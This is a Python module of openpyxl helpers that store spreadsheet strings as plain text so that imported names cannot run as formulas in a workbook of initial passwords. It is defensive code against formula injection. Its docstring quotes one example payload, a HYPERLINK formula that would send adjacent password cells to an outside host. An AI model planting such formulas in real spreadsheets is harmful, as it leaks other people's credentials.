"""Writing spreadsheets that hold people's data (names, usernames, passwords).

Every workbook the platform writes goes through these helpers, so that text is stored
as text. openpyxl turns any string beginning with "=" into a formula; a full name
imported as `=HYPERLINK("http://…?p="&C3&C4, "…")` would then come back live in the
initial-passwords workbook, next to other people's passwords (formula injection,
CWE-1236).

A string cell is written with data_type "s" (an inline string: the sheet XML has no
<f> element), and its value is never altered. Cells whose text begins with a
character a spreadsheet reads as the start of a formula (= + - @ tab CR) also get the
quotePrefix style, the apostrophe Excel and LibreOffice show but do not store: the cell
stays text even when someone edits it and presses Enter.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(ws: Worksheet, value: Any) -> Any:
    """A cell of `ws` holding `value`; a string is always stored as plain text.

    Other values (numbers, dates, None) are returned as they are, for ws.append.
    """
    if not isinstance(value, str):
        return value
    cell = Cell(ws, value=value)  # openpyxl guesses "f" for "=…"; undo the guess
    cell.data_type = "s"
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
    """ws.append(values), with every string stored as text (see safe_cell)."""
    ws.append([safe_cell(ws, value) for value in values])

